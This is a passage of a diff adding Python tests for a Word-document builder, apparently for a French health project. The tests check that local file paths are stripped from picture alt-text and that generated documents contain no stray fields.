+        text = parts_of(outputs["projet-de-sante.docx"])["word/document.xml"]
+        assert b"Visible" in text
+        assert b"Cadre" in text
+
+
+def test_the_folder_that_a_logo_came_from_is_not_its_description() -> None:
+    """Word gives a picture the path of its file for alternative text."""
+    kept = picture('<v:imagedata o:title="Logo de la CPTS"/>')
+    word, findings = read(body(picture('<v:imagedata o:title="C:\\Users\\Zoé\\logo.png"/>') + kept))
+    assert findings == []
+    assert word is not None
+    text = word.parts["word/document.xml"].decode()
+    assert "Zoé" not in text
+    assert 'o:title="Logo de la CPTS"' in text
+
+
+def test_no_document_built_holds_a_field_that_a_template_could_not() -> None:
+    for name, data in build(examen(petit_projet())).items():
+        for inside, text in parts_of(data).items():
+            if inside.endswith(".xml"):
+                assert list(field_faults(fresh_root(text))) == [], (name, inside)
